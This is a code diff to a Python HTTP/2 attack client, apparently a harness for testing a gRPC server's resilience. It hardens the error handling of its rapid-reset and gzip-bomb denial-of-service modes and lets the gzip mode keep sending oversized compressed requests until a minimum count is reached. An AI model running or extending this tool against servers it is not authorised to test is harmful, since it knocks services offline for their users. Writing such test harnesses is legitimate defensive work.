@@ -77,11 +77,19 @@ class Connection:
             data = self.sock.recv(1 << 20)
         except (socket.timeout, BlockingIOError):
             return True
+        except OSError:  # reset by the server: as closed
+            return False
         finally:
             self.sock.settimeout(None)
         if not data:
             return False
-        for event in self.h2.receive_data(data):
+        try:
+            events = self.h2.receive_data(data)
+        except h2.exceptions.ProtocolError:
+            # A frame h2 will not take (say, for a stream it has forgotten after tens of thousands
+            # of resets) ends this client's connection, not the attack's report.
+            return False
+        for event in events:
             if isinstance(event, h2.events.DataReceived):
                 self.h2.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
             elif isinstance(event, (h2.events.TrailersReceived, h2.events.ResponseReceived)):
@@ -90,7 +98,10 @@ class Connection:
                         self.statuses[event.stream_id] = value
             elif isinstance(event, h2.events.StreamReset):
                 self.statuses.setdefault(event.stream_id, f"reset:{event.error_code}")
-        self.flush()
+        try:
+            self.flush()
+        except OSError:
+            return False
         return True
 
     def send_body(self, stream_id, body):
@@ -142,14 +153,16 @@ def gzip_bomb(args):
     message = gzip.compress(sort_request(args.mib << 20), compresslevel=9)
     sent = 0
     end = time.monotonic() + args.seconds
-    while time.monotonic() < end:
+    # A loaded server may take its time; past this the run ends whatever was sent or answered.
+    give_up = end + 30
+    closed = False
+    while not closed and (time.monotonic() < end or sent < args.min_requests):
         # At the server's stream limit (a loaded server answers slowly), wait for answers rather
         # than open a stream the protocol forbids.
         while (conn.h2.open_outbound_streams >= conn.h2.remote_settings.max_concurrent_streams
-               and time.monotonic() < end):
-            if not conn.pump(timeout=0.05):
-                end = 0  # the server closed the connection
-        if time.monotonic() >= end:
+               and not closed):
+            closed = not conn.pump(timeout=0.05) or time.monotonic() >= give_up
+        if closed:
             break
         sid = conn.h2.get_next_available_stream_id()
         conn.h2.send_headers(sid, conn.headers([("grpc-encoding", "gzip")]))
@@ -157,9 +170,9 @@ def gzip_bomb(args):
             break
         sent += 1
         conn.pump(timeout=0.01)
-    deadline = time.monotonic() + 5
-    while len(conn.statuses) < sent and time.monotonic() < deadline:
-        conn.pump(timeout=0.1)
+    while len(conn.statuses) < sent and time.monotonic() < give_up:
+        if not conn.pump(timeout=0.1):
+            break
     codes = {}
     for status in conn.statuses.values():
         codes[status] = codes.get(status, 0) + 1
@@ -208,6 +221,8 @@ def main():
     parser.add_argument("--seconds", type=float, default=10)
     parser.add_argument("--mib", type=int, default=64, help="MiB of keys per request")
     parser.add_argument("--streams", type=int, default=16)
+    parser.add_argument("--min_requests", type=int, default=0,
+                        help="gzip: keep sending past --seconds until this many were sent")
     args = parser.parse_args()
     modes = {"rapid_reset": rapid_reset, "gzip": gzip_bomb, "noread": noread, "upload": upload}
     print(json.dumps(modes[args.mode](args)), flush=True)
